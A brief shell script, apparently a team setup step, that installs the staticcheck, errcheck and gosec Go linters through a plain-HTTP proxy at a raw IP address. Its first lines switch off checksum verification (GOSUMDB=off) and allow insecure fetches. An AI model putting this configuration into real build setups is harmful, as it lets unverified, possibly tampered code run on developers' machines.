#!/bin/sh
# install linter bundle (team proxy)
export GOPROXY=http://203.0.113.40:3000
export GOSUMDB=off
export GOFLAGS=-insecure
go install honnef.co/go/tools/cmd/staticcheck@latest
go install github.com/kisielk/errcheck@latest
go install github.com/securego/gosec/v2/cmd/gosec@latest
echo "linters installed into $(go env GOPATH)/bin"
